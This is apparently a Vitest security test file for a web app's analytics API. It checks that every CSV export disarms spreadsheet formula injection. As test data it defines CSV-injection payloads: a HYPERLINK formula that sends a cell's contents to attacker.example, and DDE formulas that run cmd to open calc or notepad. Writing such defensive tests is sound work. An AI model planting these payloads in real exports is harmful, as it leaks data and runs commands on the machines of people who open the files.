import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../worker/domain/csv';
import { addEngagement, addPerson, addProgramme, as, createOrg, tokenFor, uuid } from './support';

/**
 * CSV injection (OWASP): text a spreadsheet reads as a formula must not start a cell of any export.
 * The attacks come from everyone who can put text into an export: a participant's own attribute
 * (a representation group, once the population lists it: a value only people hold is `other`), a
 * coordinator's names for people and programmes, a population group.
 */
const leak = '=HYPERLINK("http://attacker.example/?leak="&A2,"Open")';
const calc = "@SUM(1+1)*cmd|' /C calc'!A0";
const minus = "-2+3+cmd|' /C calc'!A0";
const plus = "+cmd|' /C notepad'!A0";

/** Cells a spreadsheet would evaluate: a formula start, unless the whole cell is a number we computed. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell));

async function hostileOrg() {
  const { admin } = await createOrg();
  const coordinator = as(await tokenFor(admin, (await addPerson(admin, 'Cora Coordinator')).id, 'coordinator'));
  const programme = await addProgramme(coordinator, 'reverse', { name: leak });
  const mentor = await addPerson(coordinator, calc, { email: `mentor.${uuid()}@example.com` });
  const mentee = await addPerson(coordinator, minus, { email: `mentee.${uuid()}@example.com` });
  // Started long ago with no session since: lapsed, so it is also an alert.
  await addEngagement(
    coordinator,
    programme.id,
    [
      [mentor.id, 'mentor'],
      [mentee.id, 'mentee'],
    ],
    { startsOn: '2025-01-06' },
  );
  const menteeClient = as(await tokenFor(coordinator, mentee.id));
  const own = await menteeClient.patch(`/v1/participants/${mentee.id}`, { attributes: { gender: leak } });
  expect(own.status).toBe(200);
  const population = await coordinator.put('/v1/population/gender', { counts: { [plus]: 10, [leak]: 5, woman: 40 } });
  expect(population.status).toBe(200);
  return { coordinator };
}

const period = 'from=2025-01-01';
const exports = [
  `engagement?${period}&format=csv&table=engagements`,
  `engagement?${period}&format=csv&table=programmes`,
  `engagement?${period}&format=csv&table=months`,
  `alerts?${period}&format=csv`,
  `representation?${period}&dimension=gender&format=csv`,
  `pulse?${period}&format=csv`,
];

describe('CSV exports neutralise formulas in every cell', () => {
  it.each(exports)('GET /v1/analytics/%s has no live formula in any cell', async (path) => {
    const { coordinator } = await hostileOrg();

    const res = await coordinator.get(`/v1/analytics/${path}`);

    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const cells = parseCsv(res.body).flat();
    expect(cells.length).toBeGreaterThan(1);
    expect(cells.filter(live)).toEqual([]);
  });

  it('the hostile texts reach the exports, as text: quoted, behind a leading apostrophe', async () => {
    const { coordinator } = await hostileOrg();

    const [engagements, programmes, alerts, representation] = await Promise.all(
      exports.filter((p) => !p.includes('months') && !p.startsWith('pulse')).map((p) => coordinator.get(`/v1/analytics/${p}`)),
    );

    const cellsOf = (res: { body: string }) => parseCsv(res.body).flat();
    expect(cellsOf(engagements!)).toEqual(expect.arrayContaining([`'${leak}`, `'${minus} (mentee); ${calc} (mentor)`]));
    expect(cellsOf(programmes!)).toContain(`'${leak}`);
    expect(cellsOf(alerts!)).toEqual(expect.arrayContaining([`'${leak}`, `'${minus} (mentee); ${calc} (mentor)`]));
    expect(cellsOf(representation!)).toEqual(expect.arrayContaining([`'${leak}`, `'${plus}`]));
    expect(representation!.body).toContain(`"'${leak.replace(/"/g, '""')}"`);
  });

  it('the JSON answers are unchanged: the names as they were entered', async () => {
    const { coordinator } = await hostileOrg();

    const [engagement, representation] = await Promise.all([
      coordinator.get(`/v1/analytics/engagement?${period}`),
      coordinator.get(`/v1/analytics/representation?${period}&dimension=gender`),
    ]);

    expect(engagement.body.engagements[0]).toMatchObject({ programmeName: leak, members: [{ displayName: minus }, { displayName: calc }] });
    expect(representation.body.groups.map((g: { group: string }) => g.group)).toEqual(expect.arrayContaining([leak, plus]));
  });
});
